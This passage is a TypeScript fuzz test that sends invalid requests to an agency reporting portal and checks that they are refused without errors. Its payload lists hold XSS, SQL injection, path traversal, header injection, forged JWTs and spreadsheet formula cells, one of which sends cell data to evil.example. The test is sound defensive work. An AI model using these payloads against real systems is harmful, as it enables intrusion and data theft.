import { randomUUID } from 'node:crypto';
import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import type { AddressInfo } from 'node:net';
import jwt from 'jsonwebtoken';
import type { TestWorkflowEnvironment } from '@temporalio/testing';
import type { WorkflowHandle } from '@temporalio/client';
import type { FastifyInstance } from 'fastify';
import { createTimeSkippingEnv } from '../../support/temporal';
import { freshDatabase, type TestDatabase } from '../../support/databases';
import { MailpitApi, startMailpit, type TestMailServer } from '../../support/mailpit';
import { seedCycle, type SeededCycle } from '../../support/cycle-fixture';
import { runningWorker, TEST_FROM, TEST_LINKS } from '../../support/worker';
import { testFiles } from '../../support/files';
import { EXE_BYTES, fixture, HTML_BYTES, minimalPdf, minimalXlsx } from '../../fixtures/files/documents';
import { parse } from 'csv-parse/sync';
import { exportSubmissions } from '../../../src/reports/exports';
import { Random, seedFromEnv } from '../../support/fuzz-random';
import {
  multipartBody,
  percentEncode,
  sendRaw,
  urlencodedBody,
  zip,
  type Part,
  type RawRequest,
  type RawResponse,
} from '../../support/fuzz-http';
import { createMailer, type Mailer } from '../../../src/mail/mailer';
import { inspectionLadder } from '../../../src/inspections/ladder';
import { buildCalendarData } from '../../../src/calendar/load';
import { HOLIDAYS_DIR } from '../../../src/cycle/compute-plan';
import { localInstant } from '../../../src/cycle/clock';
import { yearsTouchedBy } from '../../../src/cycle/plan';
import { signTaskToken } from '../../../src/links/task-link';
import { issueTaskLink, revokeTaskLink } from '../../../src/links/issue';
import { linkKeyring } from '../../../src/config/links';
import { buildWebServer } from '../../../src/web/server';
import {
  agencyWorkflowId,
  type AgencyObligationsInput,
  type AgencyObligationsStatus,
} from '../../../src/workflows/obligation-types';
import { inspectionWorkflowId, type InspectionInput } from '../../../src/inspections/types';
import type { FigureDefinition } from '../../../src/web/agency/figures';
import { statusQuery } from '../../../src/workflows/messages/agency-obligations';
import { inspectionStatusQuery, recordConclusionUpdate } from '../../../src/workflows/messages/inspection';
import { agencyObligations } from '../../../src/workflows/agency-obligations';
import { inspection as inspectionWorkflow } from '../../../src/workflows/inspection';

// Fuzzed requests against the agency portal: the task page with mangled links, and the three forms
// (submission, extension request, a recommendation's report) with random field values, random files
// and broken bodies. Every request is built to be invalid (at least one defect that the portal must
// refuse), so the whole run must end with nothing recorded: no Submission, no stored file, no temp file,
// no workflow Update accepted. And no answer may be a 5xx, nor lack the security headers. Replay a run
// with FUZZ_SEED=<seed>.

/** Header lines every answer must have (the strict CSP with base-uri, the Permissions-Policy, nosniff). */
const SECURITY_HEADER_LINES = [
  /\r\ncontent-security-policy: [^\r]*base-uri 'none'/i,
  /\r\npermissions-policy: [^\r]*camera=\(\)/i,
  /\r\nx-content-type-options: nosniff/i,
  /\r\nreferrer-policy: no-referrer/i,
];

const DEFAULT_SEED = 20261129;
const SEED = seedFromEnv('FUZZ_SEED', DEFAULT_SEED);
const REQUESTS = Number(process.env.FUZZ_REQUESTS || 320);
if (!Number.isInteger(REQUESTS) || REQUESTS < 1) {
  throw new Error(`FUZZ_REQUESTS=${process.env.FUZZ_REQUESTS}: expected a positive integer`);
}
const YEAR = 2027;
const PROGRAM = 'dien-bien-kh99';
const AGENCY = 'SO-YT';
const FOCAL = 'ha.tt@soyt.dienbien.example';
const VISIT = '2027-09-09';
const MAX_FILES = 3;
const MAX_FILE_BYTES = 1024 * 1024;
/** The form's one-time key, as the portal checks it. */
const FORM_KEY = /^[0-9a-f-]{36}$/;

type Route = 'page' | 'submit' | 'extension' | 'report';
type Encoding = 'multipart' | 'urlencoded' | 'json';

interface FileSpec {
  field: Buffer;
  filename: Buffer;
  type?: string;
  bytes: Buffer;
}

/** A form being built: fields (bytes, in order, duplicates allowed), files, and how it is sent. */
interface Form {
  route: Route;
  encoding: Encoding;
  fields: { name: Buffer; value: Buffer; json?: unknown }[];
  files: FileSpec[];
  token: string;
  number: string;
  query: string;
  method: string;
  contentType?: string;
  body?: Buffer;
  mangle?: 'truncate' | 'no-final' | 'boundary-mismatch' | 'no-boundary' | 'empty-boundary' | 'garbage';
  badChunks?: boolean;
  gzip?: boolean;
  abort?: boolean;
  headers: [string, string][];
  defects: string[];
  noise: string[];
}

interface FuzzCase {
  index: number;
  label: string;
  request: RawRequest;
}

const utf8 = (s: string) => Buffer.from(s, 'utf8');

const UNICODE = [
  'Nguyễn Thị Hồng Nhung',
  '\u202egnp.exe',
  'a\u200b\u200c\u200db',
  '🧨💣🔥',
  'e\u0301'.repeat(60),
  '\ud800',
  '\udfff\ud800',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  'ﷺ',
  '\u0000',
  'Ω≈ç√∫',
  '田中さん',
  'ا لعربية',
  '\ufeffBOM',
];
const ODD_NUMBERS = [
  '1e309',
  '-0',
  '0x1F',
  '1_000',
  '١٢٣',
  '１２',
  '12,5',
  '1 250',
  '1\u00a0250',
  'NaN',
  'Infinity',
  '1.234,5',
  '9'.repeat(40),
  '.5',
  '5.',
  '+7',
  '−3',
  '1/2',
  '0,125',
];
const FORMULA_CELLS = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Bấm vào đây")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
const INJECTIONS = [
  '<script>alert(1)</script>',
  '{{ 7 | times: 7 }}',
  '{% raw %}',
  "'; DROP TABLE Submission;--",
  '../../../../etc/passwd',
  '%00%2e%2e%2f',
  '\r\nSet-Cookie: pwned=1',
  '${process.exit()}',
  '__proto__',
  '{"$where": "1"}',
  // Formula cells (OWASP CSV injection): a spreadsheet would run them if an export left them as they are.
  ...FORMULA_CELLS,
];
const INVALID_UTF8 = [
  Buffer.from([0xff]),
  Buffer.from([0xc3, 0x28]),
  Buffer.from([0xed, 0xa0, 0x80]),
  Buffer.from([0xf8, 0x88, 0x80, 0x80, 0x80]),
  Buffer.from([0xc0, 0xaf]),
  Buffer.from([0xe2, 0x82]),
  Buffer.from([0xfe, 0xfe, 0xff, 0xff]),
];

/** Random text that may or may not be acceptable: noise, never counted as a defect. */
function noiseText(rng: Random): Buffer {
  switch (rng.int(0, 9)) {
    case 0:
      return utf8(rng.pick(UNICODE));
    case 1:
      return utf8(rng.pick(ODD_NUMBERS));
    case 2:
      return utf8(rng.pick(INJECTIONS));
    case 3:
      return Buffer.concat([utf8('Trần '), rng.pick(INVALID_UTF8), utf8(' Hà')]);
    case 4:
      return Buffer.from(Array.from({ length: rng.int(1, 30) }, () => rng.pick([...range(0, 31), 0x7f])));
    case 5:
      return utf8(`Hà ${'x'.repeat(rng.int(100, 3000))}`);
    case 6:
      return rng.bytes(rng.int(1, 300));
    case 7:
      return Buffer.alloc(0);
    case 8:
      return utf8(`${rng.pick(UNICODE)}${rng.pick(INJECTIONS)}${rng.pick(ODD_NUMBERS)}`);
    default:
      return utf8('Báo cáo 6 tháng đầu năm 2027');
  }
}

function range(from: number, to: number): number[] {
  return Array.from({ length: to - from + 1 }, (_, i) => from + i);
}

/** A text longer than `limit` characters with no whitespace at its ends (so trimming keeps it long). */
function tooLong(rng: Random, limit: number): Buffer {
  const unit = rng.pick(['x', 'Ư', '字', 'ab', '🧨']);
  const length = limit + 1 + rng.int(0, rng.chance(0.2) ? 70_000 : 500);
  return utf8(unit.repeat(Math.ceil(length / unit.length)));
}

/** Blank once trimmed (JavaScript's trim: spaces, tabs, line ends, NBSP, ideographic space, BOM). */
function blank(rng: Random): Buffer {
  return utf8(rng.pick(['', ' ', '\t\r\n', '\u00a0\u3000', '\ufeff', '   \u2028  ']));
}

/** A one-time key the portal must refuse. */
function junkKey(rng: Random): Buffer {
  for (;;) {
    const uuid = randomUUID();
    const value = rng.pick([
      uuid.toUpperCase(),
      `${uuid}x`,
      uuid.slice(0, 35),
      uuid.replace(/-/g, ''),
      uuid.replace(/[0-9]/, '٣'),
      `${uuid.slice(0, 10)}\u0000${uuid.slice(11)}`,
      'g'.repeat(36),
      '../../../../../../../../etc/passwd',
      '',
      uuid.replace(/-/g, '_'),
    ]);
    if (!FORM_KEY.test(value.trim())) return utf8(value);
  }
}

/** A date the extension form must refuse. */
const BAD_DATES = [
  '',
  '2027-02-30',
  '2027-13-01',
  '27-09-30',
  '2027-9-30',
  '2027/09/30',
  '30/09/2027',
  'ngày mai',
  '2027-09-30T00:00:00Z',
  '+002027-09-30',
  '2027\u201009\u201030',
  '２０２７-09-30',
  '2027-09-30\u0000',
  '2027-09-30x',
  '0000-01-01',
  '2027-00-10',
  '2027-04-31',
];

/** A file's name as a browser (or not) might send it. */
function fileName(rng: Random): Buffer {
  switch (rng.int(0, 11)) {
    case 0:
      return utf8('../../../../etc/passwd.pdf');
    case 1:
      return utf8('..\\..\\windows\\system32\\x.pdf');
    case 2:
      return utf8(`${'a'.repeat(rng.int(256, 5000))}.pdf`);
    case 3:
      return Buffer.concat([utf8('bao-cao'), rng.pick(INVALID_UTF8), utf8('.pdf')]);
    case 4:
      return utf8('cod\u202efdp.exe');
    case 5:
      return utf8(rng.pick(['.', '..', '...', 'CON', 'nul.pdf', ' ', '.pdf']));
    case 6:
      return utf8('tab\tnul\u0000bell\u0007.pdf');
    case 7:
      return utf8('%2e%2e%2f%2e%2e%2fx.pdf');
    case 8:
      return utf8('Kế hoạch năm 2027 – bản cuối (1).docx');
    case 9:
      return utf8('C:\\Users\\Hà\\Desktop\\báo cáo.pdf');
    case 10:
      return utf8(`${rng.pick(UNICODE)}.odt`);
    default:
      return utf8('bao-cao.pdf');
  }
}

function claimedType(rng: Random): string | undefined {
  return rng.pick([
    'application/pdf',
    'text/html',
    'application/x-msdownload',
    'image/png',
    'application/octet-stream',
    'application/zip',
    'a/b/c; ;;=',
    '',
    undefined,
    'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  ]);
}

describe('the agency portal under fuzzed requests', () => {
  let env: TestWorkflowEnvironment;
  let database: TestDatabase;
  let seeded: SeededCycle;
  let smtp: TestMailServer;
  let mailer: Mailer;
  let worker: { stop(): Promise<void> };
  let app: FastifyInstance;
  let port: number;
  let inspection: WorkflowHandle;
  let obligations: WorkflowHandle;
  let reportToken: string;
  let inspectionToken: string;
  let revokedReportToken: string;
  let revokedInspectionToken: string;
  let figures: readonly FigureDefinition[];
  let xlsx: Buffer;
  const files = testFiles({ maxFileBytes: MAX_FILE_BYTES, maxFiles: MAX_FILES });
  const taskQueue = `portal-fuzz-${randomUUID()}`;
  const agencyWorkflow = agencyWorkflowId(PROGRAM, YEAR, AGENCY);
  /** Errors the server met while answering (from its onError hook), by request. */
  const serverErrors: { request: number; error: string }[] = [];
  let current = -1;

  /** Every file under `dir`, relative to it. */
  function tree(dir: string, prefix = ''): string[] {
    if (!existsSync(dir)) return [];
    return readdirSync(dir, { withFileTypes: true })
      .flatMap((e) =>
        e.isDirectory() ? tree(join(dir, e.name), `${prefix}${e.name}/`) : [`${prefix}${e.name}`],
      )
      .sort();
  }

  beforeAll(async () => {
    env = await createTimeSkippingEnv();
    database = await freshDatabase('sqlite', 'portal_fuzz');
    seeded = await seedCycle(database.db, YEAR);
    smtp = await startMailpit();
    mailer = createMailer({ url: smtp.smtpUrl, from: TEST_FROM });
    worker = await runningWorker(env, { taskQueue, db: database.db, mailer });
    xlsx = await minimalXlsx();
    app = buildWebServer({
      db: database.db,
      links: TEST_LINKS,
      files,
      // The day after the inspection's visit (the report of the 6-month milestone is still open).
      now: () => localInstant('2027-09-10', 10),
      temporal: env.client,
      // Submissions are stamped with the time-skipping server's time, the workflows' clock.
      receiptClock: () => env.currentTimeMs(),
    });
    app.addHook('onError', async (_request, reply, error) => {
      // 4xx errors (a body Fastify refuses) and requests the client stopped sending are not failures.
      const status = (error as { statusCode?: number }).statusCode ?? reply.statusCode;
      if (status >= 500 && error.message !== 'aborted') {
        serverErrors.push({ request: current, error: error.stack ?? String(error) });
      }
    });
    await app.listen({ host: '127.0.0.1', port: 0 });
    port = (app.server.address() as AddressInfo).port;

    // An inspection with two open recommendations (as in agency-recommendations.test.ts).
    const calendar = buildCalendarData(yearsTouchedBy(YEAR), HOLIDAYS_DIR);
    const milestone = seeded.plan.milestones.find((m) => m.key === 'inspection')!;
    const settings = seeded.program.definition.milestones.find((m) => m.key === 'inspection')!.inspection!;
    const inspectionInput: InspectionInput = {
      cycleId: seeded.cycleId,
      program: PROGRAM,
      year: YEAR,
      programVersionId: seeded.programVersionId,
      agency: { code: AGENCY, name: 'Sở Y tế', group: 'department' },
      kind: 'kiem-tra',
      visitOn: VISIT,
      noticeWorkingDays: settings.noticeWorkingDays,
      remedyWorkingDays: settings.remedyWorkingDays,
      ...inspectionLadder(milestone),
      calendar,
      clock: { originMs: localInstant('2027-08-30', 7), scale: 1 },
    };
    inspection = await env.client.workflow.start(inspectionWorkflow, {
      taskQueue,
      workflowId: inspectionWorkflowId(PROGRAM, YEAR, AGENCY),
      args: [inspectionInput],
    });
    await env.sleep(localInstant(VISIT, 15) - localInstant('2027-08-30', 7));
    expect((await inspection.query(inspectionStatusQuery)).stage).toBe('visited');
    await inspection.executeUpdate(recordConclusionUpdate, {
      args: [
        {
          conclusion: 'Còn thiếu báo cáo định kỳ quý III.',
          recommendations: [
            { text: 'Bổ sung báo cáo định kỳ quý III.', dueOn: '2027-09-24' },
            { text: 'Kiện toàn tổ công tác về gia đình.' },
          ],
          by: 'inspector:lan',
        },
      ],
    });

    // The 6-month report, requested: its task page takes a submission and an extension request.
    const report = seeded.plan.milestones.find((m) => m.key === 'report-6m')!;
    figures = seeded.program.definition.milestones.find((m) => m.key === 'report-6m')!.figures;
    const input: AgencyObligationsInput = {
      cycleId: seeded.cycleId,
      program: PROGRAM,
      year: YEAR,
      programVersionId: seeded.programVersionId,
      agency: { code: AGENCY, name: 'Sở Y tế', group: 'department' },
      milestones: [report],
      calendar,
      clock: { originMs: localInstant(report.requestOn, 7), scale: 1 },
      closesOn: seeded.plan.endsOn,
    };
    obligations = await env.client.workflow.start(agencyObligations, {
      taskQueue,
      workflowId: agencyWorkflow,
      args: [input],
    });
    await env.sleep('3 hours');

    // The links the focal point received: the inspection notice's and the report request's.
    const mail = new MailpitApi(smtp.apiUrl);
    const tokens = new Map<string, string>();
    const received = await mail.waitFor((m) => m.To.some((t) => t.Address === FOCAL), 2);
    for (const summary of received) {
      const text = (await mail.get(summary.ID)).Text;
      for (const m of text.matchAll(/https:\/\/phoihop\.dienbien\.example\/nhiem-vu\/([A-Za-z0-9._-]+)/g)) {
        const claims = JSON.parse(Buffer.from(m[1]!.split('.')[1]!, 'base64url').toString()) as { m: string };
        tokens.set(claims.m, m[1]!);
      }
    }
    reportToken = tokens.get('report-6m')!;
    inspectionToken = tokens.get('inspection')!;
    expect(reportToken).toBeDefined();
    expect(inspectionToken).toBeDefined();
    // A link of each task issued to another recipient, then revoked.
    for (const milestone of ['report-6m', 'inspection']) {
      const issued = await issueTaskLink(
        database.db,
        { workflowId: agencyWorkflow, cycleId: seeded.cycleId, agencyCode: AGENCY, milestone },
        { email: 'thu-hoi@soyt.dienbien.example', role: 'focal_point' },
        new Date(Date.now() + 86_400_000 * 365),
        linkKeyring(TEST_LINKS),
      );
      await revokeTaskLink(database.db, issued.id, 'coordinator:fuzz', 'revoked for the fuzz test');
      if (milestone === 'inspection') revokedInspectionToken = issued.token;
      else revokedReportToken = issued.token;
    }
  });

  afterAll(async () => {
    for (const handle of [obligations, inspection])
      await handle?.terminate('test done').catch(() => undefined);
    await app?.close();
    await worker?.stop();
    mailer?.close();
    await smtp?.stop();
    files.remove();
    await database?.drop();
    await env?.teardown();
  });

  /** A mangled task token (as a raw path, possibly several segments), never equal to the original once decoded. */
  function mangledToken(rng: Random, token: string): { path: string; kind: string } {
    const b64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
    const [header, payload] = token.split('.') as [string, string, string];
    const claims = JSON.parse(Buffer.from(payload, 'base64url').toString()) as Record<string, unknown>;
    for (;;) {
      const kind = rng.pick([
        'truncated',
        'char changed',
        'bit flipped',
        'huge',
        'unicode',
        'path traversal',
        'bad percent-encoding',
        'alg none',
        'wrong secret',
        'expired',
        'no expiry',
        'other key id',
        'revoked',
        'unknown task',
        'double-encoded',
        'empty',
        'segments swapped',
      ]);
      let path: string;
      switch (kind) {
        case 'truncated':
          path = token.slice(0, rng.int(1, token.length - 1));
          break;
        case 'char changed': {
          const at = rng.int(0, token.length - 1);
          const options = b64.replace(token[at]!, '');
          path = `${token.slice(0, at)}${rng.pick([...options])}${token.slice(at + 1)}`;
          break;
        }
        case 'bit flipped': {
          const bytes = Buffer.from(token, 'latin1');
          const at = rng.int(0, bytes.length - 1);
          bytes[at] = bytes[at]! ^ (1 << rng.int(0, 7));
          path = percentEncode(bytes);
          break;
        }
        case 'huge':
          path = `${token}${'A'.repeat(rng.pick([1, 200, 2000, 20_000]))}`;
          break;
        case 'unicode': {
          const at = rng.int(0, token.length);
          path = `${token.slice(0, at)}${percentEncode(utf8(rng.pick(UNICODE)))}${token.slice(at)}`;
          break;
        }
        case 'path traversal':
          path = rng.pick([
            '../../../../etc/passwd',
            '..%2f..%2f..%2fetc%2fpasswd',
            `${token}/../../../etc/passwd`,
            '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
            '....//....//etc/passwd',
            `..%5c..%5c${token}`,
            `${token}%2f..%2f..%2fquan-ly`,
          ]);
          break;
        case 'bad percent-encoding':
          path = `${token.slice(0, 20)}${rng.pick(['%zz', '%E0%A4%A', '%', '%C0%AF', '%u0041', '%%'])}${token.slice(20)}`;
          break;
        case 'alg none': {
          const none = Buffer.from(JSON.stringify({ alg: 'none', typ: 'JWT' })).toString('base64url');
          path = `${none}.${payload}.`;
          break;
        }
        case 'wrong secret':
          path = jwt.sign({ ...claims, a: rng.pick([AGENCY, 'SO-TP']) }, 'x'.repeat(64), {
            algorithm: 'HS256',
            noTimestamp: true,
          });
          break;
        case 'expired':
          path = signTaskToken(
            { cycleId: String(claims.c), agency: String(claims.a), milestone: String(claims.m) },
            new Date(Date.now() - rng.int(1, 1000) * 86_400_000),
            TEST_LINKS.secret,
          );
          break;
        case 'no expiry': {
          // Correctly signed, for the real task, but valid forever: refused.
          const { exp, ...forever } = claims;
          void exp;
          path = jwt.sign(forever, TEST_LINKS.secret, { algorithm: 'HS256', noTimestamp: true });
          break;
        }
        case 'other key id':
          // Signed with the very secret the portal accepts, under a key id it does not (a retired key, or
          // a forger's guess): refused without the signature counting.
          path = signTaskToken(
            { cycleId: String(claims.c), agency: String(claims.a), milestone: String(claims.m) },
            new Date(Date.now() + 86_400_000 * 365),
            {
              id: rng.pick(['retired', 'k0', 'k2', 'none', '../k1', 'k1 ', 'K1']),
              secret: TEST_LINKS.secret,
            },
          );
          break;
        case 'revoked':
          // A real recipient's link of the real task, revoked by a coordinator.
          path = claims.m === 'inspection' ? revokedInspectionToken : revokedReportToken;
          break;
        case 'unknown task':
          path = signTaskToken(
            { cycleId: `cycle:khong-co:${YEAR}:X`, agency: 'KHONG-CO', milestone: String(claims.m) },
            new Date(Date.now() + 86_400_000 * 365),
            TEST_LINKS.secret,
          );
          break;
        case 'double-encoded': {
          const at = rng.int(0, token.length - 1);
          path = `${token.slice(0, at)}%25${token.charCodeAt(at).toString(16).toUpperCase()}${token.slice(at + 1)}`;
          break;
        }
        case 'empty':
          path = '';
          break;
        default:
          path = `${payload}.${header}.${token.split('.')[2]}`;
      }
      let decoded: string | undefined;
      try {
        decoded = decodeURIComponent(path);
      } catch {
        decoded = undefined;
      }
      if (decoded !== token) return { path, kind };
    }
  }

  /** Junk for the query string: languages, receipts, dates, numbers, duplicates, arrays, bad encoding. */
  function junkQuery(rng: Random): string {
    if (rng.chance(0.3)) return rng.chance(0.5) ? '?lang=en' : '';
    const params: string[] = [];
    for (let i = rng.int(1, 4); i > 0; i--) {
      const name = rng.pick([
        'lang',
        'receipt',
        'extension',
        'reported',
        'lang[]',
        '__proto__[x]',
        'a'.repeat(300),
      ]);
      params.push(`${name}=${percentEncode(noiseText(rng)).slice(0, 3000)}`);
    }
    if (rng.chance(0.2))
      params.push(rng.pick(['lang=en&lang=vi', '%zz=1', 'reported=1&reported=2', '=', '&&&']));
    return `?${params.join('&')}`;
  }

  function pdf(rng: Random): Buffer {
    return minimalPdf(`fuzz ${rng.int(0, 1e9)}`);
  }

  /** Fixtures (made by make-fixtures.py) refused for what they carry: macros, outside links, objects. */
  const ACTIVE_FIXTURES = [
    'excel4-macro.xlsm',
    'excel4-renamed.xlsx',
    'remote-template.docx',
    'external-image.xlsx',
    'ole-object.docx',
    'activex.docx',
    'basic-macro.odt',
    'script-macro.odt',
    'pdf-openaction-js.pdf',
    'pdf-launch.pdf',
    'pdf-embedded-file.pdf',
    'pdf-objstm-js.pdf',
  ];

  /** A file the portal must refuse (by content, size or emptiness), and what it is. */
  function refusedFile(rng: Random): { kind: string; bytes: Buffer } {
    const kind = rng.pick([
      'random bytes',
      'html',
      'exe',
      'empty',
      'too big',
      'not a zip',
      'plain zip',
      'docx with macros',
      '10,001-entry zip',
      'nested zips',
      'odt of another type',
      'cut docx',
      'pdf signature not at the start',
      'mimetype entry claiming 4 GB',
      'office file that acts when opened',
      'pdf with an action',
      'cut pdf',
    ]);
    switch (kind) {
      case 'random bytes': {
        const bytes = rng.bytes(rng.int(1, 5000));
        bytes[0] = rng.pick([0x00, 0x41, 0x7b, 0xff, 0x0a]);
        return { kind, bytes };
      }
      case 'html':
        return { kind, bytes: HTML_BYTES };
      case 'exe':
        return { kind, bytes: EXE_BYTES };
      case 'empty':
        return { kind, bytes: Buffer.alloc(0) };
      case 'too big':
        return {
          kind,
          bytes: Buffer.concat([pdf(rng), Buffer.alloc(MAX_FILE_BYTES + rng.int(1, 50_000), 0x20)]),
        };
      case 'not a zip':
        return {
          kind,
          bytes: Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), rng.bytes(rng.int(0, 2000))]),
        };
      case 'plain zip':
        return { kind, bytes: zip([{ name: 'ghi-chu.txt', data: utf8('không phải văn bản') }]) };
      case 'docx with macros':
        return {
          kind,
          bytes: zip([
            { name: '[Content_Types].xml', data: utf8('<Types/>') },
            { name: 'word/document.xml', data: utf8('<w:document/>') },
            { name: 'word/vbaProject.bin', data: rng.bytes(64) },
          ]),
        };
      case '10,001-entry zip':
        return {
          kind,
          bytes: zip([
            { name: '[Content_Types].xml', data: utf8('<Types/>') },
            { name: 'word/document.xml', data: utf8('<w:document/>') },
            ...Array.from({ length: 10_000 }, (_, i) => ({ name: `${i}`, data: Buffer.alloc(0) })),
          ]),
        };
      case 'nested zips': {
        let inner = zip([
          { name: '[Content_Types].xml', data: utf8('<Types/>') },
          { name: 'word/document.xml', data: Buffer.alloc(1_000_000), deflate: true },
        ]);
        for (let depth = rng.int(1, 5); depth > 0; depth--)
          inner = zip([{ name: `lop-${depth}.zip`, data: inner }]);
        return { kind, bytes: inner };
      }
      case 'odt of another type':
        return {
          kind,
          bytes: zip([
            { name: 'mimetype', data: utf8('application/vnd.oasis.opendocument.spreadsheet') },
            { name: 'content.xml', data: utf8('<office:document-content/>') },
          ]),
        };
      case 'cut docx': {
        const docx = fixture('minimal.docx');
        return { kind, bytes: docx.subarray(0, rng.int(4, docx.length - 23)) };
      }
      case 'pdf signature not at the start':
        return { kind, bytes: Buffer.concat([utf8(' '), pdf(rng)]) };
      case 'office file that acts when opened':
        return { kind, bytes: fixture(rng.pick(ACTIVE_FIXTURES)) };
      case 'pdf with an action': {
        // An incremental update adding an action, its name perhaps written with #xx escapes.
        const good = pdf(rng);
        const xref = /startxref\n(\d+)/.exec(good.toString('latin1'))![1]!;
        let name = rng.pick(['JavaScript', 'JS', 'Launch', 'EmbeddedFile', 'EmbeddedFiles']);
        if (rng.chance(0.5)) name = name.replace(/[a-z]/, (c) => `#${c.charCodeAt(0).toString(16)}`);
        const update = `9 0 obj\n<< /S /${name} /F (x) >>\nendobj\nstartxref\n${xref}\n%%EOF\n`;
        return { kind, bytes: Buffer.concat([good, utf8(update)]) };
      }
      case 'cut pdf': {
        const whole = pdf(rng);
        return { kind, bytes: whole.subarray(0, rng.int(5, whole.length - 7)) };
      }
      default:
        return {
          kind,
          bytes: zip([
            {
              name: 'mimetype',
              data: utf8('application/vnd.oasis.opendocument.text'),
              claimedSize: 0xfffffff0,
            },
            { name: 'content.xml', data: utf8('<office:document-content/>') },
          ]),
        };
    }
  }

  /** A file the portal accepts by content (noise: the form it comes with has another defect). */
  function acceptedFile(rng: Random): { kind: string; bytes: Buffer } {
    const kind = rng.pick(['pdf', 'docx', 'odt', 'xlsx', 'docx bomb (8 MB of zeros deflated)']);
    switch (kind) {
      case 'pdf':
        return { kind, bytes: pdf(rng) };
      case 'docx':
        return { kind, bytes: fixture('minimal.docx') };
      case 'odt':
        return { kind, bytes: fixture('minimal.odt') };
      case 'xlsx':
        return { kind, bytes: xlsx };
      default:
        return {
          kind,
          bytes: zip([
            { name: '[Content_Types].xml', data: utf8('<Types/>') },
            { name: 'word/document.xml', data: Buffer.alloc(8 * 1024 * 1024), deflate: true },
          ]),
        };
    }
  }

  /**
   * Adds a file under "attachments". `plainName`: a name every multipart parser reads as a file name (a
   * refused file must reach the portal as a file for its refusal to be guaranteed).
   */
  function attach(rng: Random, form: Form, bytes: Buffer, plainName = false): void {
    const filename = plainName
      ? utf8(
          rng.pick([
            'bao-cao.pdf',
            'Kế hoạch.docx',
            '../../etc/passwd.pdf',
            `${'a'.repeat(300)}.pdf`,
            'so lieu.xlsx',
          ]),
        )
      : fileName(rng);
    form.files.push({ field: utf8('attachments'), filename, type: claimedType(rng), bytes });
  }

  const fieldName = (s: string) => utf8(s);

  function setField(form: Form, name: string, value: Buffer, json?: unknown): void {
    const found = form.fields.find((f) => f.name.equals(utf8(name)));
    if (found) {
      found.value = value;
      found.json = json;
    } else form.fields.push({ name: utf8(name), value, json });
  }

  function removeField(form: Form, name: string): void {
    form.fields = form.fields.filter((f) => !f.name.equals(utf8(name)));
  }

  /** The valid form of the route: what a person would send. */
  function baseForm(route: Exclude<Route, 'page'>): Form['fields'] {
    const f = (name: string, value: string) => ({ name: fieldName(name), value: utf8(value) });
    if (route === 'submit') {
      return [
        f('key', randomUUID()),
        f('submittedBy', 'Trần Thanh Hà'),
        f('summary', 'Báo cáo 6 tháng đầu năm 2027'),
        f('figure.events-held', '12'),
        f('figure.participants', '1 250'),
        f('figure.violence-cases', ''),
        f('figure.cultural-families', '87,5'),
      ];
    }
    if (route === 'extension') {
      return [
        f('key', randomUUID()),
        f('until', '2027-12-30'),
        f('reason', 'Chờ số liệu của các xã'),
        f('requestedBy', 'Trần Thanh Hà'),
      ];
    }
    return [
      f('key', randomUUID()),
      f('reportedBy', 'Trần Thanh Hà'),
      f('summary', 'Đã bổ sung báo cáo quý III.'),
    ];
  }

  /** Random values in random fields, extra fields, accepted or refused files: never a guaranteed refusal. */
  function addNoise(rng: Random, form: Form): void {
    for (let n = rng.int(0, 4); n > 0; n--) {
      const what = rng.int(0, 7);
      if (what <= 2 && form.fields.length > 0) {
        const field = rng.pick(form.fields);
        field.value = noiseText(rng);
        form.noise.push(`${field.name.toString('latin1')}=noise`);
      } else if (what === 3) {
        form.fields.push({
          name: rng.chance(0.5) ? utf8(rng.pick(UNICODE)) : noiseText(rng).subarray(0, 50),
          value: noiseText(rng),
        });
        form.noise.push('extra field');
      } else if (what === 4 && form.encoding === 'multipart') {
        const file = acceptedFile(rng);
        attach(rng, form, file.bytes);
        form.noise.push(`file: ${file.kind}`);
      } else if (what === 5 && form.fields.length > 0) {
        const field = rng.pick(form.fields);
        form.fields.push({ name: field.name, value: noiseText(rng) });
        form.noise.push(`${field.name.toString('latin1')} sent twice (second: noise)`);
      } else if (what === 6 && form.encoding === 'multipart') {
        // A file part under another name, or a file input left empty.
        form.files.push({
          field: rng.chance(0.5) ? utf8('attachments') : utf8(rng.pick(['file', 'summary', 'key', 'x'])),
          filename: rng.chance(0.5) ? Buffer.alloc(0) : fileName(rng),
          type: claimedType(rng),
          bytes: rng.chance(0.5) ? Buffer.alloc(0) : pdf(rng),
        });
        form.noise.push('odd file part');
      } else if (what === 7 && form.encoding === 'multipart') {
        // File names that break the part's header: a quote, a line end, a name* parameter, a header too long.
        const raw = rng.pick([
          utf8('a"b.pdf'),
          utf8('a\r\nContent-Type: text/html\r\n\r\nx.pdf'),
          utf8("x.pdf\"; filename*=UTF-8''%E2%82%AC.pdf"),
          utf8(`${'b'.repeat(100_000)}.pdf`),
          utf8('x.pdf\\'),
        ]);
        form.files.push({
          field: utf8('attachments'),
          filename: raw,
          type: claimedType(rng),
          bytes: pdf(rng),
        });
        form.noise.push('file name breaking the header');
      }
    }
    if (rng.chance(0.3)) form.query = junkQuery(rng);
    if (rng.chance(0.2)) {
      const header = rng.pick<[string, string]>([
        ['X-Forwarded-For', rng.pick(['a,b,,,', '999.999.999.999', '::ffff:1.2.3.4, unknown', ''])],
        ['X-Forwarded-Host', '../../evil.example'],
        ['X-Forwarded-Proto', 'javascript'],
        ['Cookie', `phoihop_session=${'A'.repeat(rng.int(1, 4000))}; phoihop_csrf=%zz`],
        ['Accept-Language', 'en;q=abc, *'],
        ['Referer', 'https://evil.example/'],
        ['Expect', '100-continue'],
      ]);
      form.headers.push(header);
      form.noise.push(`header ${header[0]}`);
    }
  }

  type Defect = (rng: Random, form: Form) => string | undefined;

  /** Defects each guarantee a refusal; one returns undefined when it does not apply to the form. */
  function defects(): Record<string, Defect> {
    const textLimit: Record<string, number> = {
      submittedBy: 200,
      summary: 5000,
      reason: 2000,
      requestedBy: 200,
      reportedBy: 200,
    };
